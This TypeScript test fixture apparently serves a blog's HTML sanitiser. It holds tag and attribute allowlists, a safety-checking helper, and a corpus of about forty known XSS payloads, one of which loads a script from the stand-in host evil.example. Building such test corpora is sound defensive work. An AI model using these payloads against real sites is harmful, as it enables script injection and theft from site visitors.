// The hostile corpus every way into a post's HTML is tested against: the HTML sanitiser's own
// tests and the blog desk's Markdown path share it, so both face the same payloads.
import { Parser } from 'htmlparser2';

export const ALLOWED_TAGS = new Set(
  'p h2 h3 h4 ul ol li strong em b i a blockquote img figure figcaption br hr table thead tbody tr th td code pre'.split(
    ' ',
  ),
);
export const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title'],
  img: ['src', 'alt', 'width', 'height'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};
export const HOSTS = ['res.cloudinary.com'];

interface Element {
  name: string;
  attribs: Record<string, string>;
}

/** Parses the output the way a browser would start to, to check what elements it really holds. */
export function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const parser = new Parser({ onopentag: (name, attribs) => found.push({ name, attribs }) });
  parser.write(html);
  parser.end();
  return found;
}

/**
 * `anyRelativeHref`: a link may be any address without a scheme (Markdown makes `[x](a b=c)` a
 * link to the relative path `a%20b=c`: harmless, it stays on the site).
 */
export function expectSafe(output: string, { anyRelativeHref = false } = {}): void {
  for (const { name, attribs } of elementsOf(output)) {
    expect(ALLOWED_TAGS.has(name)).toBe(true);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(ALLOWED_ATTRIBUTES[name] ?? []).toContain(attribute);
      if (attribute === 'href') {
        if (anyRelativeHref && !/^[a-z][a-z0-9+.-]*:/i.test(value)) {
          // No scheme (as a browser reads one): a path on this site, never //another.host.
          expect(value).not.toMatch(/^[\s/\\]{2}/);
        } else {
          expect(value).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#|[a-z0-9-]+(?:[/?#]|$))/i);
        }
      }
      if (attribute === 'src') {
        const trusted =
          (value.startsWith('/images/') && !value.includes('..')) ||
          value.startsWith('https://res.cloudinary.com/') ||
          /^data:image\/(png|jpeg|gif|webp);base64,/.test(value);
        expect(trusted).toBe(true);
      }
    }
  }
  expect(output).not.toMatch(/<\s*(script|style|iframe|svg|object|embed|form|meta|base|math)\b/i);
}

// Known XSS vectors (OWASP filter evasion cheat sheet, PortSwigger XSS cheat sheet, DOMPurify tests).
export const XSS_PAYLOADS: Array<[string, string]> = [
  ['script tag', '<script>alert(1)</script>'],
  ['upper-case script with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['upper-case handler on trusted img', '<img src="/images/blog/a.svg" ONERROR="alert(1)">'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  [
    'decimal entity javascript: link',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['hex entity and &colon;', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
  ['tab inside scheme', '<a href="java\tscript:alert(1)">x</a>'],
  ['encoded newline inside scheme', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['leading space and control char', '<a href=" &#14; javascript:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  [
    'data:text/html link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ],
  ['svg onload', '<svg onload=alert(1)>'],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['style attribute with url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style element', '<style>body{background:url("javascript:alert(1)")}</style><p>ok</p>'],
  ['iframe javascript src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed svg data', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['body onload', '<body onload=alert(1)><p>x</p></body>'],
  ['unclosed img with handler', '<img src="x" onerror="alert(1)"//'],
  ['double open bracket', '<<script>alert(1)//<</script>'],
  ['nested split script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['math/style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['protocol-relative image', '<img src="//evil.example/x.png">'],
  ['protocol-relative link', '<a href="//evil.example/">x</a>'],
  ['attribute breaking title', `<a href="/" title='"><script>alert(1)</script>'>x</a>`],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['path traversal image', '<img src="/images/../api/orders">'],
  ['encoded traversal image', '<img src="/images/%2e%2e/api/orders">'],
  ['onmouseover on allowed tag', '<p onmouseover="alert(1)">hover</p>'],
  ['link target opener', '<a href="https://evil.example" target="_blank">x</a>'],
];
